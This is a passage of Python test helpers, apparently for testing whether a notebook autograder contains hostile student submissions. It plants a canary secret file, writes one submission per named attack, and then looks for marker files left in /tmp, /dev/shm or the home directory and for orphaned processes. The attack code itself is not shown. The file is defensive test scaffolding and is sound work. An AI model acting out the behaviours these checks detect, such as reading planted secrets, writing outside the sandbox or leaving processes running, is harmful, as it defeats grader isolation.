    source = json.loads((REPO / "exercises" / "source" / ASSIGNMENT / NOTEBOOK).read_text())
    seeds = []
    for cell in _cells(source):
        text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        seeds += [part.split(",")[0].split(")")[0] for part in text.split("seed=")[1:]]
    return Context(course=course, release={}, secret_path=secret_dir / "instructor-secret.txt",
                   secret_token=tokens["SECRET"], victim_token=tokens["VICTIM"],
                   write_token=tokens["pwned"].removeprefix("pwned-"), hidden_seeds=seeds)


def make_course(course: Path, secret_dir: Path, attacks=None, env=None) -> Context:
    """Write the corpus course: the activations exercise released, a secret planted beside it
    (and one in the course folder), and one submission per attack (student id = attack name)."""
    ctx = make_context(course, secret_dir)
    (course / "source" / ASSIGNMENT).mkdir(parents=True)
    shutil.copy(REPO / "exercises" / "source" / ASSIGNMENT / NOTEBOOK,
                course / "source" / ASSIGNMENT / NOTEBOOK)
    (course / "nbgrader_config.py").write_text(
        "c = get_config()  # noqa: F821\n"
        "c.CourseDirectory.course_id = 'security'\n"
        f"c.Execute.timeout = {CELL_TIMEOUT}\n")
    bindir = str(Path(sys.executable).parent)
    env = env or {**os.environ, "PATH": bindir + os.pathsep + os.environ.get("PATH", "")}
    subprocess.run([sys.executable, "-m", "autograder", "release", ASSIGNMENT], cwd=course,
                   env=env, check=True, capture_output=True, timeout=600)
    ctx.release = json.loads((course / "release" / ASSIGNMENT / NOTEBOOK).read_text())
    secret_dir.mkdir(parents=True, exist_ok=True)
    for path in (ctx.secret_path, course / ctx.secret_path.name):
        path.write_text(f"{ctx.secret_token}\n")
        os.chmod(path, 0o600)
    for attack in attacks or ATTACKS:
        write_submission(course, attack.name, attack.build(ctx))
    return ctx


def write_submission(course: Path, student: str, files: dict) -> None:
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        path = folder / name
        if isinstance(data, Symlink):
            os.symlink(data.target, path)
        else:
            path.write_bytes(data)


def planted_files(ctx: Context, roots) -> list[Path]:
    """Files whose name carries the write marker, under ``roots`` (and in the host's /tmp)."""
    found = []
    for root in list(roots) + [Path("/tmp"), Path("/dev/shm"), Path.home()]:
        root = Path(root)
        if not root.exists():
            continue
        pattern = f"*pwned-{ctx.write_token}*"
        try:
            if root in (Path("/tmp"), Path("/dev/shm"), Path.home()):
                found += list(root.glob(pattern))
            else:
                found += list(root.rglob(pattern))
        except OSError:
            pass
    return found


def orphans(ctx: Context) -> list[int]:
    """Processes started by the orphan attack that are still alive."""
    alive = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if f"orphan-{ctx.write_token}".encode() in (proc / "cmdline").read_bytes():
                    alive.append(int(proc.name))
            except OSError:
                pass
    return alive
